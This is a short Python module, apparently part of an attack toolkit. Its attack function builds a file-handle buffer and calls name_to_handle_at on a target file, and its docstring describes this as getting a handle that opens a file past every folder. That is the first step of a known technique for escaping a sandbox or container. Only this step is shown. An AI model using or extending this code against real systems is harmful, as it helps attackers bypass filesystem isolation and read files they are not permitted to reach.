"""Asks for a handle by which a file can be opened past every folder."""

import ctypes

import raw


def attack(target):
    handle = ctypes.create_string_buffer(b"\x80\0\0\0" + bytes(4) + bytes(128), 136)
    mount = ctypes.c_int()
    raw.call("name_to_handle_at", -100, target["file"].encode(), handle, ctypes.byref(mount), 0)
